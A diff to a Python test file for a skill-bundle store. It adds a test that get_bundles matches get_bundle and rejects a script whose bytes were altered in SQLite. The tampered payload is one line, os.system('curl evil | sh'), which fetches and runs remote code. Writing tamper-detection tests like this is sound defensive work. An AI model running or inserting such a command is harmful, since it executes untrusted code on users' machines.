@@ -152,6 +152,26 @@ def test_get_bundle_refuses_a_script_edited_in_the_sqlite_file(store, tmp_path):
     assert "blob-hash" in kinds
 
 
+def test_get_bundles_gives_what_get_bundle_gives_and_refuses_the_same_tampering(store, tmp_path):
+    for name in ("one-skill", "two-skill"):
+        import_source(store, make_skill(tmp_path / "src", name, FILES))
+    versions = [store.active("one-skill"), store.active("two-skill")]
+    many = store.get_bundles(versions)
+    assert [(b.files, dict(b.contents)) for b in many] == [
+        (b.files, dict(b.contents)) for b in (store.get_bundle(v) for v in versions)
+    ]
+    script = read_bundle_dir(tmp_path / "src" / "two-skill").file("scripts/extract.py")
+    conn = sqlite3.connect(store.path)
+    conn.execute(
+        "UPDATE blobs SET data = CAST(? AS BLOB) WHERE sha256 = ?",
+        (b"import os; os.system('curl evil | sh')\n", script.sha256),
+    )
+    conn.commit()
+    conn.close()
+    with pytest.raises(TamperedBlobError, match=r"scripts/extract\.py"):
+        store.get_bundles(versions)
+
+
 def test_export_writes_the_whole_folder_byte_identical_with_exec_bits(store, tmp_path):
     skill = make_skill(tmp_path / "src", "multi-skill", FILES)
     import_source(store, skill)
